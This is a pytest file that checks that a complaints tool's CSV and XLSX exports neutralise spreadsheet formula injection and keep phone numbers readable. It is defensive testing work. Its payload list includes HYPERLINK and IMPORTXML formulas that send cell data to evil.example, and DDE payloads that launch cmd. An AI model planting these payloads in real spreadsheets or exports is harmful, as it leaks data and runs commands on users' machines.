"""Exports opened as a spreadsheet would open them: no formula from user data (OWASP "CSV
injection"), numbers and phone numbers still readable (issue 16 #7)."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlmodel import Session

from seat import complaints
from seat.cli import main
from seat.export import Table, neutral, to_csv, to_xlsx
from tests.conftest import NOW

# The OWASP list, and the tricks around it (tab/CR first, full-width equals, DDE).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
]
# Data that only looks like it starts a formula: stays exactly as it is.
READABLE = ["+8613800138000", "+86 138 0013 8000", "-2", "-2.5", "+3", "Wang Fang", "张敏"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_is_neutralised(payload):
    out = to_csv([Table("t", ["Customer", "Count"], [[payload, 3]])])
    [header, row] = list(csv.reader(io.StringIO(out, newline="")))
    assert row == ["'" + payload.replace("\r", "\n"), "3"]  # a lone CR would split the row


@pytest.mark.parametrize("value", READABLE)
def test_numbers_phones_and_names_stay_readable(value):
    assert neutral(value) == value
    out = to_csv([Table("t", ["Phone", "Score", "Diff"], [[value, 4.5, -3]])])
    assert list(csv.reader(io.StringIO(out, newline="")))[1] == [value, "4.5", "-3"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_cell_is_a_string_not_a_formula(payload, tmp_path):
    data = to_xlsx([Table("t", ["Customer", "Count", "Phone"],
                          [[payload, 3, "+8613800138000"]])], None)  # fmt: skip
    path = tmp_path / "t.xlsx"
    path.write_bytes(data)
    ws = load_workbook(path).active
    name, count, phone = ws[2]
    assert (name.data_type, name.value) == ("s", payload.replace("\r", "\n"))  # XML's CR
    assert (count.data_type, count.value) == ("n", 3)
    assert (phone.data_type, phone.value) == ("s", "+8613800138000")


# -- every exporting command, with rows another tool wrote straight into the database ----------

HOSTILE_NAME = PAYLOADS[0]
HOSTILE_TEXT = "+cmd|' /C calc'!A0"
HOSTILE_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_DEPARTMENT = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(engine, world):
    with Session(engine) as s:
        c = complaints.create_complaint(
            session=s, now=NOW, customer_id=world["fang"], owner_id=world["li"],
            what_happened="Washer leaks", customer_wants="A new washer",
        )  # fmt: skip
        s.commit()
        complaint_id = c.id
    # Raw SQL, as another tool would write: the seat's own write guard never sees it.
    with engine.begin() as conn:
        conn.execute(text("UPDATE customer SET name = :n, address = :a"),
                     {"n": HOSTILE_NAME, "a": HOSTILE_ADDRESS})  # fmt: skip
        conn.execute(text("UPDATE work_order SET short_text = :t, service_address = :a"),
                     {"t": HOSTILE_TEXT, "a": HOSTILE_ADDRESS})  # fmt: skip
        conn.execute(text("UPDATE complaint SET department = :d WHERE id = :id"),
                     {"d": HOSTILE_DEPARTMENT, "id": complaint_id})  # fmt: skip
    return world


def _csv_cells(out: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]


def _assert_no_formula_cell(cells: list[str]) -> None:
    for cell in cells:
        if cell[:1] in "=+-@\t\r＝":
            assert neutral(cell) == cell, f"formula-looking cell exported as is: {cell!r}"


REPORT = ["report", "--from", "2026-11-01", "--to", "2026-11-30"]
COMMANDS = {
    "report complaints": (
        ["report", "complaints", *REPORT[1:]], [HOSTILE_DEPARTMENT]),
    "report callbacks": (["report", "callbacks", *REPORT[1:]], [HOSTILE_NAME]),
    "report summary": (["report", "summary", *REPORT[1:]], []),
    "workplan": (
        ["workplan", "--date", "2026-11-24", "--assignee", "li.na"],
        [HOSTILE_NAME, HOSTILE_TEXT, HOSTILE_ADDRESS],
    ),
}  # fmt: skip


@pytest.mark.parametrize("command", list(COMMANDS))
def test_csv_of_every_command(command, db_url, hostile, capsys, cli_token):
    argv, expected = COMMANDS[command]
    cli_token(db_url)  # a supervisor: nothing masked, the hostile text whole
    assert main([*argv, "--format", "csv", "--db", db_url]) == 0
    cells = _csv_cells(capsys.readouterr().out)
    _assert_no_formula_cell(cells)
    for payload in expected:  # present, and neutralised (the order text carries its kind)
        assert any(cell.startswith("'" + payload) for cell in cells), (payload, cells)


@pytest.mark.parametrize("command", [c for c in COMMANDS if c.startswith("report")])
def test_xlsx_of_every_report(command, db_url, hostile, tmp_path, cli_token):
    argv, expected = COMMANDS[command]
    cli_token(db_url)
    out = tmp_path / "r.xlsx"
    assert main([*argv, "--format", "xlsx", "--output", str(out), "--db", db_url]) == 0
    cells = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in expected:
        assert any(t.startswith(payload) for t in texts), payload
    assert all(not isinstance(c.value, datetime) or c.value.tzinfo is None for c in cells)


def test_txt_cells_stay_on_one_line():
    from seat.export import to_txt

    rows = [["Wang\x1b[2J Fang", "two\nlines\r\tand\x07"]]
    out = to_txt([Table("t", ["Customer", "Note"], rows)])
    assert "Wang[2J Fang  two lines  and" in out and "\x1b" not in out and "\x07" not in out


def test_csv_makes_each_repeated_cell_once_and_alike():
    """Cells are made once per value: the same instant in two zones still prints apart,
    and a repeated payload is neutralised every time it comes."""
    from datetime import UTC, date, timedelta, timezone

    at = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
    shanghai = at.astimezone(timezone(timedelta(hours=8)))
    table = Table("t", ["a", "b", "c"], [
        [at, "=1+1", 1], [shanghai, "=1+1", 1.0], [date(2026, 11, 23), "=1+1", True],
    ])  # fmt: skip
    rows = list(csv.reader(io.StringIO(to_csv([table]))))[1:]
    assert rows == [
        ["2026-11-23T02:00:00+00:00", "'=1+1", "1"],
        ["2026-11-23T10:00:00+08:00", "'=1+1", "1.0"],
        ["2026-11-23", "'=1+1", "True"],
    ]
